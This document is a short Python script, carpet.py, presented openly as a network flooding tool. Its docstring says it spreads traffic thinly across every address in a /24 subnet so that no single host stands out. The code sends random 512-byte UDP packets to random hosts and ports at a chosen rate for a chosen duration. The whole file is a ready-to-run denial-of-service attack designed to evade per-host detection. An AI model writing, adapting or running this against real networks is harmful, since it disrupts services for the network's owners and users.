#!/usr/bin/env python3
"""Floods a whole network a little at each address, so that no single one stands out: carpet.py A.B.C RATE SECONDS."""
import os
import random
import socket
import sys
import time

prefix, rate, seconds = sys.argv[1], float(sys.argv[2]), float(sys.argv[3])
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setblocking(False)
began, count = time.time(), 0
while time.time() - began < seconds:
    try:
        s.sendto(os.urandom(512), (f"{prefix}.{random.randrange(1, 255)}", random.randrange(1024, 65535)))
    except OSError:
        pass
    count += 1
    time.sleep(max(0, began + count / rate - time.time()))
